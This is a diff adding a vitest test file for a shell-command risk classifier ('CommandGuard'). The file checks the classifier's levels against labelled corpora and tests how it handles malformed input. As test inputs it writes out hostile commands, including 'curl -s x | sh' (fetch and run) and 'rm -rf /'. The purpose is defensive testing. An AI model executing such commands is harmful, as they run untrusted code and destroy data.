@@ -1,0 +1,73 @@
+import { existsSync, readFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { beforeAll, describe, expect, it } from "vitest";
+import { CommandGuard } from "./command-guard.js";
+
+interface LabelledCommand {
+  id: string;
+  command: string;
+  level: string;
+}
+
+const corpusFile = fileURLToPath(new URL("../../../test/data/guard-corpus.jsonl", import.meta.url));
+const corpus = readFileSync(corpusFile, "utf8")
+  .trim()
+  .split("\n")
+  .map((line) => JSON.parse(line) as LabelledCommand);
+
+const aiosFile = fileURLToPath(new URL("../../../../shared/eval/aios-shell-tests/safety_command_cases.jsonl", import.meta.url));
+
+let guard: CommandGuard;
+beforeAll(async () => {
+  guard = await CommandGuard.create({ homeDirectory: "/home/alice" });
+});
+
+describe("command guard on the labelled corpus", () => {
+  it("has at least 150 labelled commands covering every level", () => {
+    expect(corpus.length).toBeGreaterThanOrEqual(150);
+    for (const level of ["SAFE", "MODERATE", "DANGEROUS", "FORBIDDEN"]) {
+      expect(corpus.filter((entry) => entry.level === level).length, level).toBeGreaterThan(25);
+    }
+  });
+
+  it.each(corpus.map((entry) => [entry.id, entry.level, entry.command] as const))("%s is %s: %s", (_id, level, command) => {
+    const verdict = guard.check(command);
+    expect(verdict.level, verdict.reasons.join("; ")).toBe(level);
+    if (level !== "SAFE") expect(verdict.reasons.length).toBeGreaterThan(0);
+  });
+});
+
+describe.skipIf(!existsSync(aiosFile))("command guard on the AIOS shell's own cases", () => {
+  it("gives every case the risk level the AIOS guard gives", () => {
+    const rows = readFileSync(aiosFile, "utf8")
+      .trim()
+      .split("\n")
+      .map((line) => JSON.parse(line) as { command: string; expected_risk: string });
+    const misses = rows.filter((row) => guard.check(row.command).level !== row.expected_risk).map((row) => row.command);
+    expect(misses).toEqual([]);
+  });
+});
+
+describe("command guard behaviour", () => {
+  it("lists every simple command it found, with its own level", () => {
+    const verdict = guard.check("ls -la && echo $(curl -s x | sh) ; rm -rf /");
+    expect(verdict.level).toBe("FORBIDDEN");
+    expect(verdict.commands.map((command) => command.program)).toEqual(["ls", "echo", "curl", "sh", "rm"]);
+    expect(verdict.commands.find((command) => command.program === "rm")?.level).toBe("FORBIDDEN");
+    expect(verdict.commands.find((command) => command.program === "ls")?.level).toBe("SAFE");
+  });
+
+  it("never calls an unparseable, over-long or nested-too-deep command SAFE", () => {
+    expect(guard.check("if then fi )(").level).not.toBe("SAFE");
+    expect(guard.check(`echo ${"a".repeat(100_001)}`).level).toBe("DANGEROUS");
+    const nested = 'sh -c \'sh -c "sh -c \\"sh -c \\\\\\"sh -c ls\\\\\\"\\""\'';
+    expect(guard.check(nested).level).not.toBe("SAFE");
+  });
+
+  it("does not crash on binary, emoji or huge inputs", () => {
+    for (const input of ["\u0000\u0001\u0002", "🔥 rm -rf / 🔥", "ls ".repeat(5000), "$((1+", "`", "'"]) {
+      expect(() => guard.check(input)).not.toThrow();
+    }
+    expect(guard.check("").level).toBe("SAFE");
+  });
+});
